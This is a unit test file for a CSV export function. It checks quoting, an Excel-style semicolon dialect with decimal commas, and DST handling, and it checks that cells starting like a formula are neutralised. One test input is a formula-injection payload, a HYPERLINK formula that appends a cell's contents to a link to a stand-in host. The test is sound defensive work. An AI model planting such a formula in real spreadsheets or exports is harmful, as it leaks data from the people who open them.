import { toCsv } from '../src/audit/csv';

describe('CSV for the City', () => {
  it('quotes what RFC 4180 asks for and keeps a text that starts like a formula from running in a spreadsheet', () => {
    expect(toCsv([['Salle, "grande"', 'a\nb', 42, -1]])).toBe('"Salle, ""grande""","a\nb",42,-1\r\n');
    expect(toCsv([['=HYPERLINK("http://x.example/?"&A1,"Salle")', '+1', '-x', '@SUM(A1)', 'قاعة']])).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""Salle"")",'+1,'-x,'@SUM(A1),قاعة\r\n`,
    );
  });
});

describe('CSV for a spreadsheet on a Belgian computer (dialect excel)', () => {
  it('starts with the byte-order mark, separates with semicolons and quotes a field only when it holds one', () => {
    expect(toCsv([['Liège; salle 2', 'Salle, "grande"', 'قاعة'], ['=1+1', 3]], 'excel')).toBe('\uFEFF"Liège; salle 2";"Salle, ""grande""";قاعة\r\n\'=1+1;3\r\n');
  });

  it('writes a decimal comma and the building wall-clock time, on both DST days too', () => {
    const spring = [new Date('2027-03-28T00:00:00+01:00'), new Date('2027-03-29T00:00:00+02:00'), 1380, 0.25];
    const autumn = [new Date('2027-10-31T00:00:00+02:00'), new Date('2027-11-01T00:00:00+01:00'), 1500, 1 / 3];
    expect(toCsv([spring, autumn], 'excel')).toBe('\uFEFF2027-03-28 00:00;2027-03-29 00:00;1380;0,25\r\n2027-10-31 00:00;2027-11-01 00:00;1500;0,3333333333333333\r\n');
    expect(toCsv([spring, autumn])).toBe('2027-03-28T00:00:00+01:00,2027-03-29T00:00:00+02:00,1380,0.25\r\n2027-10-31T00:00:00+02:00,2027-11-01T00:00:00+01:00,1500,0.3333333333333333\r\n');
  });
});
